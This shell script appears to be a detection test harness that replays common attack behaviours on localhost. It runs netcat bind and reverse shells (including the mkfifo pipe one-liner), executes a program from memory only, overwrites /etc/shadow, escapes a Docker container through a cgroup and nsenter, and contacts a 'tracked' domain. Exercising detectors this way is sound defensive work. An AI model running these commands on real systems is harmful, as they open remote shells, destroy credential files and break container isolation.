# Sourced by init.sh: the essentials of demo/attacks, with nothing but busybox and helper.
loop=300
for at in $(seq $loop); do
    /bin/busybox true "$at"
done
echo "ran $loop" | tell

typed() { sleep 1; echo id; sleep 1; echo exit; }

# A shell whose streams are a connection.
typed | timeout 8 nc -l -p 4408 &
sleep 1
timeout 6 nc 127.0.0.1 4408 -e /bin/sh
wait $!

# The same through pipes.
typed | timeout 8 nc -l -p 4405 &
sleep 1
mkfifo /tmp/f
(cat /tmp/f | sh -i 2>&1 | timeout 6 nc 127.0.0.1 4405 >/tmp/f)

# A shell that waits.
timeout 6 nc -l -p 4439 -e /bin/sh &
sleep 1
typed | timeout 5 nc 127.0.0.1 4439

# A program that is only in memory.
helper memory /bin/busybox

# Hashes of passwords.
echo 'root:$6$x$y:19000:0:99999:7:::' >/etc/shadow
cat /etc/shadow >/dev/null

# Out of a container: namespaces of its own, a cgroup of Docker's; then into those of the first process.
group=/sys/fs/cgroup/docker/3726184226f5d3147c25fdeab5b60097e378e8a720503a5e19ecfdf29f869860
mkdir -p $group
cat >/tmp/inside <<'X'
echo $$ >$1/cgroup.procs
exec unshare -m -u -i -n sh -c 'sleep 1; nsenter -t 1 -m -u -i -n sh -c "id; hostname"; sleep 1'
X
sh /tmp/inside $group

# A name, and a connection to what has it.
helper names &
names=$!
sleep 1
nslookup tracked.example 127.0.0.1
sleep 1
nc -w 1 127.0.0.2 9
kill $names
